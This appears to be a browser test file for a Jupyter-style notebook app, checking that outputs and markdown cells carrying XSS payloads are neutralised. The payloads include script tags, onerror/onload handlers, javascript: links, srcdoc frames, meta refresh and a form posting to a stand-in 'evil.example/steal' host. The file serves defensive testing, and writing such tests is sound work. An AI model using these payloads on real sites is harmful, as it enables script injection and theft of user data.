import { beforeAll, describe, expect, test } from "vitest";
import { browserIsMissing } from "../fixtures/browsers.js";
import { PATIENCE } from "./browser.js";
import { labInBrowser } from "./labInBrowser.js";
import { NotebookPage } from "./notebookPage.js";
import { notebookText, type TestCell } from "./testNotebook.js";

/** Leaves a mark, whichever way it gets to run. */
const RUN = "window.ranEvil=true;document.documentElement.dataset.evil=1";
const FOREIGN = "http://evil.example";

const HTML: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  "script of another host": `<script src="${FOREIGN}/x.js"></script>`,
  onerror: `<img src="data:image/png;base64,AA==" onerror="${RUN}">`,
  "javascript link": `<a class="evil-link" href="javascript:${RUN}">press</a>`,
  "frame with srcdoc": `<iframe srcdoc="<script>parent.ranEvil=true</script>"></iframe>`,
  "svg with onload": `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  form: `<form action="${FOREIGN}/steal"><input name="a"><button class="evil-button">press</button></form>`,
  "style with a picture": `<style>body { background: url(${FOREIGN}/style.png) }</style>`,
  "remote picture": `<img alt="remote" src="${FOREIGN}/picture.png">`,
  object: `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=${FOREIGN}/">`,
  base: `<base href="${FOREIGN}/">`,
  "details with ontoggle": `<details open ontoggle="${RUN}">x</details>`,
  "media with onerror": `<video><source onerror="${RUN}"></video>`,
  "command linker": '<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">press</button>',
};

const output = (data: object) => [{ output_type: "display_data", data, metadata: {} }];

const CELLS: readonly TestCell[] = [
  ...Object.values(HTML).map((html, i): TestCell => ({ id: `html-${i}`, source: `"html ${i}"`, outputs: output({ "text/html": html }) })),
  { id: "javascript", source: '"javascript"', outputs: output({ "application/javascript": RUN }) },
  { id: "svg", source: '"svg"', outputs: output({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>` }) },
  { id: "latex", source: '"latex"', outputs: output({ "text/latex": `$\\href{javascript:${RUN}}{press}$` }) },
  { id: "plotly", source: '"plotly"', outputs: output({ "application/vnd.plotly.v1+json": { data: [{ type: "scatter", y: [1], name: `<a href="javascript:${RUN}">n</a>` }], layout: { title: { text: `<img src=x onerror="${RUN}">` } } } }) },
  { id: "markdown", type: "markdown", source: `${HTML["script"]}\n\n[press](javascript:${RUN})\n\n![remote](${FOREIGN}/markdown.png)\n\n$\\href{javascript:${RUN}}{x}$ $\\htmlData{a=b}{y}$` },
  { id: "end", type: "markdown", source: "the end" },
];

describe.skipIf(browserIsMissing)("a notebook that means harm, in a browser", { timeout: 4 * PATIENCE }, () => {
  const here = labInBrowser({ "evil.ipynb": notebookText(CELLS) });
  let notebook: NotebookPage;
  beforeAll(async () => {
    notebook = await NotebookPage.open(here.browser.context, here.lab, "evil.ipynb");
  }, PATIENCE);

  /** Nothing ran, and nothing was asked of another host: what the policy stopped did not leave the machine. */
  async function expectHarmless(): Promise<void> {
    const { page } = notebook;
    await page.locator(".jp-MarkdownOutput p", { hasText: "the end" }).scrollIntoViewIfNeeded();
    await page.locator(".js-plotly-plot .plot-container").first().waitFor({ state: "attached" });
    const active = page.locator(":is(.jp-OutputArea-output, .jp-MarkdownOutput) :is(script, iframe, object, form[action], meta, base, style, [onerror], [ontoggle], [onload])");
    expect(await active.evaluateAll((nodes): string[] => nodes.map((node) => node.outerHTML.slice(0, 200)))).toEqual([]);
    expect(await page.locator('.jp-Notebook a[href^="javascript:"]').count()).toBe(0);
    for (const link of await page.locator(".jp-OutputArea-output a:visible, .jp-MarkdownOutput a:visible").all()) await link.click({ noWaitAfter: true });
    // The policy stops what the form would do; a pointer would wait for it.
    await page.locator(".evil-button").evaluate((node) => (node as unknown as { click(): void }).click());
    expect(await page.evaluate("[window.ranEvil, document.documentElement.dataset.evil]")).toEqual([undefined, undefined]);
    expect(new URL(page.url()).pathname).toBe("/notebooks/evil.ipynb");
  }

  test("runs nothing where it is not trusted", () => expectHarmless());

  test("asks nothing of another host, and has nothing in it that the page's policy must stop but pictures and a form", () => {
    expect(here.browser.offences.filter((offence) => !/img-src|form-action/.test(offence))).toEqual([]);
  });
});
